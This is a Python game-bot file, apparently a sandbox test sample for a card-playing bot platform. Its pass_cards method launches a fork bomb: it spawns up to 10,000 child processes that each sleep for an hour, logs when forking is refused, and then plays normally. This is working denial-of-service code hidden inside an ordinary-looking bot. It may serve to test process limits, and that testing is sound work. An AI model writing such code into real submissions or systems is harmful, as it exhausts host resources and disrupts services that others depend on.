import os
import sys

from bots_sdk import Bot, lowest


class ForkBomb(Bot):
    def pass_cards(self, view):
        made = 0
        for _ in range(10_000):
            try:
                if os.fork() == 0:
                    import time

                    time.sleep(3600)
                    os._exit(0)
                made += 1
            except OSError as exc:
                print(f"FORK_REFUSED after {made}: {exc}", file=sys.stderr)
                break
        return view.hand[:3]

    def play(self, view):
        return lowest(view.legal)
